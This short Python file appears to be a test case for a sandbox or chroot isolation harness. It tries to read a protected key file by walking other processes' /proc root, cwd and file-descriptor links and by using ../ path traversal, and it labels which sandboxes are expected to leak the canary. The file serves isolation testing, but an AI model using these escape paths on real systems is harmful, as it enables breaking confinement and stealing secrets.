"""Go round the private root through the folders of other processes.

shows: canary
naive: spared (it has no private root)
"""

import os

ANSWER = ""
for pid in ("1", "self", str(os.getppid()), str(WORLD["pid"]), str(WORLD["server"])):
    for way in ("root", "cwd", "root/../../..", "fd/0/../../.."):
        try:
            ANSWER += open(f"/proc/{pid}/{way}{WORLD['key']}").read()
        except OSError:
            pass
ANSWER += os.path.exists("../../../.." + WORLD["key"]) * open("../../../.." + WORLD["key"]).read()
